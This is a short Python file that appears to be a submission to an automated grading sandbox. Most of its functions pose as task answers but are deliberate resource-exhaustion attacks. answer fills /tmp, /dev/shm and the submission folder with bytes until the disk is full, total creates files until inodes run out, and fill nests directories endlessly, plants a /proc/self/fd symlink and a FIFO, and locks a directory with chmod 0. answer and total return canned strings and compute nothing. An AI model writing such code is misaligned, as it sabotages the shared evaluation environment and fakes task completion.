# gains: honest
"""Fills every place that can be written to, with bytes and with empty files."""

import os


def answer(question):
    if question != "text":
        return question
    for folder in ("/tmp", "/dev/shm", "/tmp/submission"):
        try:
            with open(f"{folder}/big", "wb") as file:
                while True:
                    file.write(bytes(1 << 16))
        except OSError:
            pass
    return "BITTERN"


def total(numbers):
    number = 0
    try:
        while True:
            number += 1
            os.close(os.open(f"/tmp/{number}", os.O_CREAT))
    except OSError:
        return ["TEAL"]


def fill(items, box):
    folder = "/tmp/d"
    try:
        while True:
            os.mkdir(folder)
            os.chdir(folder)
            folder = "d"
    except OSError:
        pass
    os.symlink("/proc/self/fd", "/tmp/link")
    os.mkfifo("/tmp/given")
    os.chmod("/tmp/d", 0)


def double(n):
    return 2 * n


def joined(words):
    return ", ".join(words)
